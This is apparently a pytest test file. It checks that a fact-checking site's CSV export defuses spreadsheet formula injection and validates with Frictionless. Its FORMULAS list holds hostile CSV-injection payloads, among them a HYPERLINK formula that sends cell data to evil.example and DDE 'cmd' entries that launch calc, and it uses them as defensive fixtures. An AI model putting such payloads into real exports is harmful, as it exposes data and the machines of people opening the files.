"""claims.csv is safe to open in a spreadsheet, and datapackage.json describes it so that Frictionless accepts it."""
from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from factsheet.pages.opendata import CSV_COLUMNS, csv_cell
from factsheet.publish.build import Project, render
from tests.conftest import FIXTURE, ROOT, edit

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", " =1+1 (a space first, which the model trims)", "\uff1d1+1 (full-width equals)", "=1+1\n=2+2",
]
HARMLESS = ["Text with = + - @ inside", "'quoted already", "12,000 troops; \"quoted\""]


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    root = tmp_path_factory.mktemp("csv") / "small"
    shutil.copytree(FIXTURE, root)
    lines = ["title: Formulas", "claims:"]
    for i, text in enumerate(FORMULAS + HARMLESS):
        quoted = json.dumps(text)  # ASCII-safe YAML (no character here needs a surrogate pair)
        lines += [f"  - id: f{i}", f"    statement: {quoted}", "    claimed_by: [council]", "    status: unconfirmed",
                  "    status_note: x", "    evidence:", "      - source: gazette", "        stance: asserts",
                  "        quote: Engineers told the Gazette the repairs could take up to three months."]
    (root / "content/topics/formulas.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return render(Project(root / "content", root / "seeds"))


def rows(files: dict[str, str]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(files["claims.csv"], newline="")))


def test_no_cell_starts_with_a_formula_character(hostile_files: dict[str, str]) -> None:
    found = rows(hostile_files)
    assert len(found) > len(FORMULAS)
    for row in found:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")), row


def test_statements_are_exact_but_for_the_leading_quote(hostile_files: dict[str, str]) -> None:
    statements = {r["id"]: r["statement"] for r in rows(hostile_files)}
    for i, text in enumerate(FORMULAS):
        assert statements[f"f{i}"] == "'" + " ".join(text.split()), text  # statements are one line
    for i, text in enumerate(HARMLESS, start=len(FORMULAS)):
        assert statements[f"f{i}"] == " ".join(text.split())  # nothing else changes


def test_only_text_is_quoted() -> None:
    assert csv_cell(-3) == -3 and csv_cell("") == "" and csv_cell("-3") == "'-3"


def validate_package(files: dict[str, str], folder: Path) -> None:
    folder.mkdir()
    for name in ("claims.csv", "datapackage.json"):
        (folder / name).write_text(files[name], encoding="utf-8", newline="")
    frictionless = Path(sys.executable).parent / "frictionless"
    result = subprocess.run([str(frictionless), "validate", "--json", "datapackage.json"], cwd=folder,
                            capture_output=True, text=True, timeout=300)
    report = json.loads(result.stdout)
    assert report["valid"], json.dumps(report["tasks"][0]["errors"][:5], indent=1)
    assert result.returncode == 0


def test_frictionless_validates_the_hostile_sheet(hostile_files: dict[str, str], tmp_path: Path) -> None:
    validate_package(hostile_files, tmp_path / "package")


def test_frictionless_validates_the_real_sheet(tmp_path: Path) -> None:
    validate_package(render(Project(ROOT / "content", ROOT / "seeds")), tmp_path / "package")


def test_the_package_describes_every_column_with_types_enum_and_id_pattern(hostile_files: dict[str, str]) -> None:
    package = json.loads(hostile_files["datapackage.json"])
    schema = package["resources"][0]["schema"]
    fields = {f["name"]: f for f in schema["fields"]}
    assert list(fields) == CSV_COLUMNS
    assert fields["status"]["constraints"]["enum"][:4] == ["confirmed", "unconfirmed", "disputed", "denied"]
    assert fields["id"]["constraints"]["pattern"] == "[a-z0-9]([a-z0-9-]{0,62}[a-z0-9])?"
    assert fields["claimed_on"]["type"] == "date" and fields["outlets"]["type"] == "integer"
    assert schema["primaryKey"] == ["id"]


def test_frictionless_refuses_a_wrong_status(hostile_files: dict[str, str], tmp_path: Path) -> None:
    broken = dict(hostile_files, **{"claims.csv": hostile_files["claims.csv"].replace(",unconfirmed,", ",maybe,", 1)})
    with pytest.raises(AssertionError, match="constraint-error"):
        validate_package(broken, tmp_path / "package")
